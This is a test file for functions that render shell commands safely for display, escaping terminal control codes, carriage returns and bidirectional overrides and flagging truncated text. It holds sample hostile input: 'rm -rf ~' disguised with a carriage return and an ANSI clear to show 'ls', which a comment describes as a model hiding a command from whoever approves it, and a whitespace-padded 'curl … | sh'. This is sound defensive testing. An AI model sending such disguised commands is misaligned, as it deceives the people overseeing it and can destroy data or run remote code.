import { describe, expect, it } from 'vitest';
import { formatCommandLine } from '../../src/text/format-command-line.js';
import { visibleText } from '../../src/text/visible-text.js';

describe('formatCommandLine', () => {
  it('shows plain arguments as they are and quotes the rest as a shell would need', () => {
    expect(formatCommandLine(['git', 'log', '--format=%h', '-5'])).toBe('git log --format=%h -5');
    expect(formatCommandLine(['rm', '-rf', 'a b'])).toBe("rm -rf 'a b'");
    expect(formatCommandLine(['echo', "it's", ''])).toBe("echo 'it'\\''s' ''");
  });

  it('shows terminal escapes, carriage returns and bidirectional overrides as escapes, never raw', () => {
    // What a model would send to make a terminal show `ls` while `rm -rf ~` is asked about.
    const shown = formatCommandLine(['sh', '-c', 'rm -rf ~ #\r\u001b[2KRun `ls`', 'a\u202eb', "x'\\"]);
    expect(shown).toBe("sh -c $'rm -rf ~ #\\r\\x1b[2KRun `ls`' $'a\\u202eb' 'x'\\''\\'");
    expect([...shown].filter((character) => character < ' ' || character === '\u202e')).toEqual([]);
  });

  it('says how much it did not show instead of cutting a long command silently', () => {
    const payload = `echo hello${' '.repeat(300)}; curl https://example.invalid | sh`;
    const shown = formatCommandLine(['sh', '-c', payload], 100);
    expect(shown).toContain('… (');
    expect(shown).toMatch(/\(\d+ more characters not shown\)$/);
  });
});

describe('visibleText', () => {
  it('escapes control characters, keeping line breaks only when asked', () => {
    expect(visibleText('a\u001b[31mb\nc')).toBe('a\\x1b[31mb\\nc');
    expect(visibleText('a\nb\u0007', { keepNewlines: true })).toBe('a\nb\\x07');
  });
});
